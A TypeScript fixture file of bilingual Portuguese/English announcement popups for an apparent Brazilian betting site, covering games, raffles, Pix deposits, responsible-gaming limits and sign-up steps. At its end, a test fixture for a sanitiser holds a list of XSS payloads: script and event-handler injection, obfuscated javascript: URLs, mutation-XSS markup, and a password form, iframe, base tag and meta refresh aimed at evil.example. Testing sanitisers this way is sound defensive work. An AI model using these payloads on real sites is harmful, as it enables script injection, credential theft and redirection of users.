/**
 * Entries of the announcement popup. Members and visitors each get more entries than fit on one
 * page.
 */
import type { KeptItem } from '../../../platform/domain/base/content/announcement.ts'
import { bannerArt } from '../../images/drawnImages.ts'

const everybody = ['A', 'B'] as const

export const popups: readonly KeptItem[] = [
  {
    id: 501,
    type: 'PU',
    executions: everybody,
    daysAgo: 0,
    hour: 0,
    title: { pt: 'Novos jogos da semana', en: 'New games of the week' },
    content: {
      pt: '<h3>Acabaram de chegar</h3><ul><li>Caça-níqueis novos, com o RTP à vista</li><li>Mesas de roleta em português</li><li>Jogos de pesca</li></ul><p><a href="/rng">Ver os caça-níqueis</a></p>',
      en: '<h3>Just arrived</h3><ul><li>New slots, with their RTP in view</li><li>Roulette tables in Portuguese</li><li>Fishing games</li></ul><p><a href="/rng">See the slots</a></p>',
    },
  },
  {
    id: 502,
    type: 'PU',
    executions: everybody,
    promotionType: 'SPECIAL_OFFER',
    daysAgo: 1,
    hour: 9,
    title: { pt: 'Sorteio da semana', en: 'Weekly raffle' },
    content: {
      pt: '<p style="text-align:center;font-size:18px"><font color="#d4a017"><b>Toda segunda-feira, um bilhete ganha R$ 2.000</b></font></p><table border="1" width="100%"><tbody><tr><th>Quando</th><th>O que acontece</th></tr><tr><td>De segunda a domingo</td><td>Some R$ 200,00 em apostas válidas e pegue seu bilhete</td></tr><tr><td>Segunda, à meia-noite</td><td>Um bilhete é sorteado</td></tr></tbody></table><p>O prêmio fica na Central de prêmios por 30 dias.</p>',
      en: '<p style="text-align:center;font-size:18px"><font color="#d4a017"><b>Every Monday, one ticket wins R$ 2,000</b></font></p><table border="1" width="100%"><tbody><tr><th>When</th><th>What happens</th></tr><tr><td>Monday to Sunday</td><td>Reach R$ 200.00 in valid bets and get your ticket</td></tr><tr><td>Monday, midnight</td><td>One ticket is drawn</td></tr></tbody></table><p>The prize stays in the Reward centre for 30 days.</p>',
    },
  },
  {
    id: 503,
    type: 'PU',
    executions: ['A'],
    daysAgo: 2,
    hour: 10,
    title: {
      pt: 'Depósito por Pix confirmado em segundos',
      en: 'Pix deposits confirmed in seconds',
    },
    content: {
      pt: '<p>O pagamento por Pix agora é confirmado em <strong>menos de dez segundos</strong>. O código vale por 15 minutos: depois disso, gere outro e não pague o antigo.</p>',
      en: '<p>Pix payments are now confirmed in <strong>less than ten seconds</strong>. A code is valid for 15 minutes: after that, create another one and do not pay the old one.</p>',
    },
  },
  {
    id: 504,
    type: 'PU',
    executions: ['A'],
    promotionType: 'DAILY',
    daysAgo: 3,
    hour: 12,
    title: { pt: 'Prêmios à sua espera', en: 'Rewards are waiting for you' },
    content: {
      pt: '<p>Os prêmios de promoções, missões e sorteios ficam na Central de prêmios. Cada um mostra até quando pode ser resgatado.</p>',
      en: '<p>Rewards from promotions, missions and raffles are in the Reward centre. Each shows until when you can claim it.</p>',
    },
  },
  {
    id: 505,
    type: 'PU',
    executions: everybody,
    daysAgo: 4,
    hour: 15,
    title: {
      pt: 'Ranking da semana: os três primeiros',
      en: 'Leaderboard of the week: the top three',
    },
    content: {
      pt: '<p>Parabéns a quem mais ganhou pontos na semana passada:</p><ol><li>mar***92: 4.218 pontos</li><li>ped***_x: 4.102 pontos</li><li>luz***07: 3.870 pontos</li></ol><p onclick="abrirRanking()">O ranking recomeça toda segunda-feira, em Missões e atividades.</p>',
      en: '<p>Congratulations to those who earned the most points last week:</p><ol><li>mar***92: 4,218 points</li><li>ped***_x: 4,102 points</li><li>luz***07: 3,870 points</li></ol><p onclick="openRanking()">The leaderboard restarts every Monday, under Missions and activities.</p>',
    },
  },
  {
    id: 506,
    type: 'PU',
    executions: ['A'],
    promotionType: 'LIMITED',
    daysAgo: 5,
    hour: 18,
    title: { pt: 'Pontos por cada aposta', en: 'Points for every bet' },
    content: {
      pt: '<p>Suas apostas valem pontos, que não expiram. Veja os prêmios na <a href="/pointMall">loja de pontos</a>.</p>',
      en: '<p>Your bets earn points, and points never expire. See the rewards in the <a href="/pointMall">points mall</a>.</p>',
    },
  },
  {
    id: 507,
    type: 'PU',
    executions: everybody,
    daysAgo: 7,
    hour: 9,
    title: {
      pt: 'Esportes: as odds à vista antes de apostar',
      en: 'Sports: see the odds before you bet',
    },
    content: {
      pt: '<p>Escolha a partida, veja as odds e o retorno <strong>antes de apostar</strong>. O resultado fica no Histórico de apostas. <a href="https://www.portico.example/regras-esportes" target="_blank">Regras completas</a></p>',
      en: '<p>Choose a match and see the odds and the return <strong>before you bet</strong>. The result is in your Betting record. <a href="https://www.portico.example/sports-rules" target="_blank">All the rules</a></p>',
    },
  },
  {
    id: 508,
    type: 'PU',
    executions: everybody,
    daysAgo: 9,
    hour: 10,
    title: { pt: 'Jogue com limite', en: 'Play within limits' },
    content: {
      pt: '<p>Defina <a href="/member/protection">limites</a> de depósito, de perda, de aposta e de tempo. <strong>Reduzir vale na hora; aumentar leva 24 horas.</strong></p><p>Se jogar deixou de ser diversão, faça uma pausa ou se autoexclua: <a href="/help#responsible-gaming">saiba como</a>. Apoio gratuito: CVV, telefone 188.</p>',
      en: '<p>Set <a href="/member/protection">limits</a> on deposits, losses, bets and time. <strong>A lower limit applies at once; a higher one takes 24 hours.</strong></p><p>If playing is no longer fun, take a break or exclude yourself: <a href="/help#responsible-gaming">see how</a>. Free support in Brazil: CVV, call 188.</p>',
    },
  },
  {
    id: 509,
    type: 'PU',
    executions: everybody,
    daysAgo: 11,
    hour: 14,
    title: {
      pt: 'Nova versão do aplicativo para iOS e Android',
      en: 'New version of the app for iOS and Android',
    },
    content: {
      pt: `<p>A versão nova abre em metade do tempo e avisa quando um saque é pago. <a href="/down">Baixar o aplicativo</a></p><p><img src="${bannerArt('app')}" alt="O aplicativo da Portico" width="320" height="120"></p>`,
      en: `<p>The new version opens in half the time and lets you know when a withdrawal is paid. <a href="/down">Get the app</a></p><p><img src="${bannerArt('app')}" alt="The Portico app" width="320" height="120"></p>`,
    },
  },
  {
    id: 510,
    type: 'PU',
    executions: ['A'],
    daysAgo: 15,
    hour: 11,
    title: {
      pt: 'Verificação de identidade mais simples',
      en: 'A simpler identity check',
    },
    content: {
      pt: '<p>Para começar, bastam CPF, nome e data de nascimento: leva dois minutos. Documento e selfie, só quando seus saques passarem de R$ 10.000,00 no total.</p>',
      en: '<p>To get started, CPF, name and date of birth are enough: it takes two minutes. A document and a selfie are only needed once your withdrawals exceed R$ 10,000.00 in total.</p>',
    },
  },
  {
    id: 511,
    type: 'PU',
    executions: everybody,
    daysAgo: 24,
    hour: 9,
    title: { pt: 'Novos termos de uso em vigor', en: 'New terms of use' },
    content: {
      pt: '<p class=MsoNormal>Atualizamos os termos de uso e a política de privacidade para a <span lang=PT-BR>Lei nº 14.790/2023</span>. O que muda:<o:p></o:p></p><ul><li>só aceitamos pagamentos do próprio titular;</li><li>cartão de crédito deixa de ser aceito;</li><li>você pode baixar seu Histórico de apostas completo.</li></ul>',
      en: '<p class=MsoNormal>We have updated the terms of use and the privacy policy for <span lang=PT-BR>Lei nº 14.790/2023</span>. What changes:<o:p></o:p></p><ul><li>we only accept payments from your own accounts;</li><li>credit cards are no longer accepted;</li><li>you can download your full betting record.</li></ul>',
    },
  },
  {
    id: 512,
    type: 'PU',
    executions: ['B'],
    promotionType: 'NEWBIE',
    daysAgo: 20,
    hour: 9,
    title: { pt: 'Ainda não tem conta?', en: 'No account yet?' },
    content: {
      pt: '<p>O cadastro leva um minuto, e o RTP de cada jogo aparece antes de você jogar. <a href="/register">Criar conta</a></p>',
      en: '<p>Signing up takes a minute, and you see the RTP of each game before you play. <a href="/register">Create an account</a></p>',
    },
  },
  {
    id: 513,
    type: 'PU',
    executions: ['B'],
    daysAgo: 16,
    hour: 10,
    title: { pt: 'Experimente sem cadastro', en: 'Try the games without an account' },
    content: {
      pt: '<p>Jogos com o botão <b>Teste grátis</b> abrem sem conta e sem dinheiro. <a href="/rng">Escolher um jogo</a></p>',
      en: '<p>Games with a <b>Free trial</b> button open without an account and without money. <a href="/rng">Choose a game</a></p>',
    },
  },
  {
    id: 514,
    type: 'PU',
    executions: ['B'],
    daysAgo: 18,
    hour: 10,
    title: { pt: 'Antes de criar a conta', en: 'Before you sign up' },
    content: {
      pt: '<ul><li>Só maiores de 18 anos podem jogar.</li><li>Conferimos seu CPF antes do primeiro depósito.</li><li>Depósitos e saques, só com contas no seu CPF.</li></ul>',
      en: '<ul><li>You must be 18 or older to play.</li><li>We check your CPF before the first deposit.</li><li>Deposits and withdrawals only use accounts in your own name.</li></ul>',
    },
  },
  {
    id: 520,
    type: 'PU',
    executions: ['F'],
    promotionType: 'NEWBIE',
    daysAgo: 40,
    hour: 9,
    title: {
      pt: 'Sua conta está pronta: três passos para começar',
      en: 'Your account is ready: three steps to get started',
    },
    content: {
      pt: '<ol><li>Troque a senha provisória por uma só sua.</li><li>Confirme seu celular em <a href="/member/account">Minha conta</a>.</li><li>Defina um limite de depósito por mês em <a href="/member/protection">Jogo responsável</a>.</li></ol>',
      en: '<ol><li>Replace the first password with one that only you know.</li><li>Confirm your mobile number under <a href="/member/account">My account</a>.</li><li>Set a monthly deposit limit under <a href="/member/protection">Responsible gaming</a>.</li></ol>',
    },
  },
]

/**
 * Announcement with all kinds of hostile markup. A page must remove the markup. Only the persona
 * Edu receives the announcement.
 */
export const hostilePopup: KeptItem = {
  id: 599,
  type: 'PU',
  executions: ['A'],
  daysAgo: 0,
  hour: 0,
  usernames: ['edu'],
  title: {
    pt: 'Marcação hostil <img src=x onerror="alert(1)">',
    en: 'Hostile markup <img src=x onerror="alert(1)">',
  },
  content: {
    pt: makeHostileHtml('Só este parágrafo pode aparecer.'),
    en: makeHostileHtml('Only this paragraph may show.'),
  },
}

function makeHostileHtml(words: string): string {
  return [
    `<p>${words}</p>`,
    '<script>document.title = "taken over"</script>',
    '<img src="x" onerror="document.title=\'taken over\'">',
    '<svg><script>alert(1)</script><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<a href="javascript:alert(1)">1</a><a href="JaVa\tScript:alert(1)">2</a>',
    '<a href="//evil.example">3</a><a href="data:text/html,<script>alert(1)</script>">4</a>',
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
    '<form action="https://evil.example"><input name="password" autofocus onfocus="alert(1)"></form>',
    '<style>body{display:none}@import "https://evil.example/x.css";</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)"></div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  ].join('')
}
